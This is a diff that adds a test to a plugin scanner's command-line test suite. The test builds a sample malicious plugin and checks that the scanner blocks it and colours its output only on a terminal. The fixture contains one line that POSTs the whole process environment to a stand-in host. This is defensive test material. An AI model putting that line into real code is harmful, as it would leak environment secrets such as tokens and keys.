@@ -163,6 +163,23 @@ describe('a refusal', () => {
     expect(json(await cli('scan evil --json'))).toMatchObject({ verdict: 'block', name: '@acme/evil' });
   });
 
+  it('of a malicious plugin is told in colour on a terminal alone', async () => {
+    mkdirSync(join(dir, 'evil'));
+    writeFileSync(join(dir, 'evil/package.json'), '{"name":"evil","version":"1.0.0"}');
+    const send =
+      "fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });";
+    writeFileSync(join(dir, 'evil/index.js'), send);
+    const io = memoryIo(dir);
+    io.stdout.isTTY = true;
+    expect(await run(['scan', 'evil'], io)).toBe(1);
+    expect(io.out()).toContain('\u001b[1m\u001b[31mcritical');
+    const plain = await cli('scan evil');
+    expect(plain).toMatchObject({ code: 1 });
+    expect(plain.out).not.toContain('\u001b');
+    expect(plain.out).toContain('verdict block: ');
+    expect(plain.out).toMatch(/\nevil@1\.0\.0: block, \d+ findings in 2 files \(\d+ B\)\n$/);
+  });
+
   it('never lets a name rewrite the terminal', async () => {
     const said = await run(['scan', '\u001b[2Jnowhere'], memoryIo(dir));
     const io = memoryIo(dir);
